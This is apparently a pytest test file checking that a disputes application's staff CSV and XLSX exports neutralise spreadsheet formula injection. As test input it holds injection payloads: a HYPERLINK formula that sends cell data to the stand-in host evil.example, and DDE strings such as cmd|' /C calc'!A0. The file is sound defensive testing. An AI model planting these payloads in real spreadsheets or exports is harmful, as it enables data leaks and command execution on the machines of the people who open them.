"""No cell of a staff download can start a formula: text a consumer typed stays text.

CSV cells that a spreadsheet would read as a formula are written with a leading apostrophe; XLSX
cells are written as strings (never formulas) with the value unchanged, marked quote-prefixed so
that editing the cell keeps it text.
"""

from __future__ import annotations

import csv
import unicodedata
from io import BytesIO, StringIO
from typing import Any

import pytest
from openpyxl import load_workbook

from disputes.cases.models import CaseStatus
from tests.support.snapshots import built_once

#: Every first character a spreadsheet program may take as the start of a formula.
PREFIXES = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
FORMULA = 'HYPERLINK("http://evil.example/?x="&A1,"click")'
EXPORTS = (
    "/staff/cases/export?format={}",
    "/staff/cases/export?format={}&full=1",
    "/staff/stats/export?format={}&from=2000-01-01",
)


def _dangerous(text: str) -> bool:
    return unicodedata.normalize("NFKC", text[:1])[:1] in {"=", "+", "-", "@", "\t", "\r"}


@pytest.fixture
def hostile_cases(request, app) -> tuple[set[str], Any]:
    """One case per prefix, each text field the consumer fills starting with it, filed once per
    backend and restored for each download: the hostile brands, and the staff member who
    downloads them (made with the cases, which are filed under screening by staff)."""

    def file_them() -> tuple[set[str], Any]:
        case_in = request.getfixturevalue("case_in")
        for prefix in PREFIXES:
            case_in(
                CaseStatus.screening,
                **{
                    "vehicle.brand": f"{prefix}{FORMULA}",
                    "vehicle.model": f"{prefix}SUM(1+1)*cmd|' /C calc'!A0",
                    "contact_name": f"{prefix}张三",
                    "business_name": f'{prefix}HYPERLINK("http://x/?"&D2,"详情")',
                    "claim_text": f"{prefix}cmd|' /C calc'!A0",
                },
            )
        return {f"{p}{FORMULA}" for p in PREFIXES}, request.getfixturevalue("staff")

    return built_once(request, app, "export-formulas", file_them)


@pytest.mark.parametrize("url", EXPORTS)
def test_csv_cells_never_start_a_formula_and_keep_the_text(hostile_cases, client, login, url):
    brands, staff = hostile_cases
    login(staff)

    body = client.get(url.format("csv")).get_data(as_text=True).lstrip("\ufeff")

    cells = [cell for row in csv.reader(StringIO(body, newline="")) for cell in row]
    assert not [c for c in cells if _dangerous(c)]
    assert {c[1:] for c in cells if c.startswith("'") and FORMULA in c} == brands


@pytest.mark.parametrize("url", EXPORTS)
def test_xlsx_cells_are_text_with_the_value_unchanged(hostile_cases, client, login, url):
    brands, staff = hostile_cases
    login(staff)

    sheet = load_workbook(BytesIO(client.get(url.format("xlsx")).data)).active

    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type not in ("s", "n")]
    # XML reads a carriage return as a line feed.
    expected = {text.replace("\r", "\n") for text in brands}
    assert {c.value for c in cells if FORMULA in str(c.value)} == expected
    texts = [c for c in cells if isinstance(c.value, str)]
    assert all(c.quotePrefix for c in texts if _dangerous(c.value))


def test_xlsx_drops_control_characters_xml_cannot_hold(client, login, staff, case_in):
    case_in(CaseStatus.screening, business_name="甲\x07乙\x1b商行")
    login(staff)

    response = client.get("/staff/cases/export?format=xlsx")

    assert response.status_code == 200
    values = {c.value for row in load_workbook(BytesIO(response.data)).active for c in row}
    assert "甲乙商行" in values
